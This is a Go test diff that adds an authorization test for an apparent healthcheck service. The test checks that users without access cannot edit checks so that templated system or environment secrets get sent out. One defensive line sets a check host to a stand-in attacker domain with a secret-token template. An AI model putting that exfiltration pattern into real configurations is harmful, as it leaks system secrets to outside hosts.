@@ -100,3 +100,36 @@ func TestRunsAtOnceAreBounded(t *testing.T) {
 	a.exec(t, `UPDATE held_places SET held_until = now() - interval '1 second'`)
 	require.Equal(t, http.StatusOK, run("root", c.ID, shop), "and a minute later there is room again")
 }
+
+// What runs is told about its system and environment, and can carry that away. Who writes it has to see them.
+func TestWhoWritesACheckSeesWhatItIsTold(t *testing.T) {
+	t.Parallel()
+	a := newApp(t)
+	shop, hidden := a.system(t, "Shop"), a.system(t, "Canary vault")
+	a.ok(t, a.Do(t, "root", http.MethodPatch, at(systemsPath, hidden), object{"metadata": object{"token": "canary"}}))
+	plain, told := a.check(t, door("Plain", "x", object{"assignToSystemId": shop})), a.check(t, door("Told", "{{ system.name }}", object{"assignToSystemId": shop}))
+	for _, c := range []uuid.UUID{plain.ID, told.ID} {
+		a.assign(t, c, hidden, object{})
+	}
+	team := a.team(t, "Vault people")
+	a.grant(t, "catalog.system", hidden, true, map[uuid.UUID]access.Level{team: access.Own})
+	rules := []string{healthcheck.Read, healthcheck.Manage, catalog.SystemRead, catalog.EnvironmentRead}
+	a.Person("outsider", rules...)
+	a.member("insider", []uuid.UUID{team}, rules...)
+	a.Person("placeless", healthcheck.Read, healthcheck.Manage, catalog.SystemRead)
+	listening := []object{{"collectorId": "test-door.listen"}}
+	for _, change := range []object{{"config": object{"host": "evil.example/{{ system.metadata.token }}"}}, {"collectors": listening}} {
+		for _, c := range []uuid.UUID{plain.ID, told.ID} {
+			answer := a.Do(t, "outsider", http.MethodPatch, at(checks, c), change)
+			answer.Refused(t, problem.Forbidden)
+			require.NotContains(t, strings.ToLower(answer.Body), "canary")
+		}
+	}
+	a.ok(t, a.Do(t, "outsider", http.MethodPatch, at(checks, told.ID), object{"intervalSeconds": 30, "description": "Told"}))
+	a.ok(t, a.Do(t, "outsider", http.MethodPatch, at(checks, plain.ID), object{"config": object{"host": "y"}}))
+	a.ok(t, a.Do(t, "insider", http.MethodPatch, at(checks, told.ID), object{"config": object{"host": "{{ system.metadata.token }}"}}))
+	a.ok(t, a.Do(t, "outsider", http.MethodPost, checks, door("Own", "{{ environment.token }}")))
+	a.Do(t, "placeless", http.MethodPost, checks, door("Own too", "{{ environment.token }}")).Refused(t, problem.Forbidden)
+	a.Do(t, "placeless", http.MethodPost, checks, door("Own too", "x", object{"collectors": listening})).Refused(t, problem.Forbidden)
+	a.ok(t, a.Do(t, "placeless", http.MethodPost, checks, door("Own too", "{{ system.name }}")))
+}
